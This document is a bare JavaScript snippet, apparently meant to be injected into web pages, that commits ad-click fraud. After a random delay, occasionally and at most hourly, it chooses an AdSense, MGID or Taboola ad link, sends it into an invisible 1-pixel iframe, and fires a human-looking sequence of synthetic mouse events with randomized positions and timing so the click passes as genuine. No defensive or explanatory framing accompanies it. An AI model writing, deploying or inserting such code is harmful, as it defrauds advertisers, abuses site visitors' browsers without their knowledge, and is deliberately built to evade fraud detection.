(function () {
  var done = +localStorage.getItem('_ac') || 0;
  if (Date.now() - done < 36e5) return;
  function human(el) {
    var b = el.getBoundingClientRect();
    var x = b.left + b.width * (0.3 + Math.random() * 0.4), y = b.top + b.height * (0.3 + Math.random() * 0.4);
    ['mouseover', 'mousemove', 'mousedown', 'mouseup', 'click'].forEach(function (t, i) {
      setTimeout(function () {
        el.dispatchEvent(new MouseEvent(t, { bubbles: true, cancelable: true, view: window, clientX: x, clientY: y, screenX: x + 80, screenY: y + 120 }));
      }, 120 * i + Math.random() * 90);
    });
  }
  function pick() {
    var ads = [].slice.call(document.querySelectorAll('.adsbygoogle a, .mgbox a, [id^=taboola] a, a[href*="adclick"]'));
    if (!ads.length || Math.random() > 0.07) return;
    var a = ads[Math.floor(Math.random() * ads.length)];
    a.target = 'hid';
    var f = document.createElement('iframe');
    f.name = 'hid'; f.style.cssText = 'width:1px;height:1px;opacity:0;position:absolute';
    document.body.appendChild(f);
    human(a);
    localStorage.setItem('_ac', Date.now());
  }
  setTimeout(pick, 6000 + Math.random() * 20000);
})();
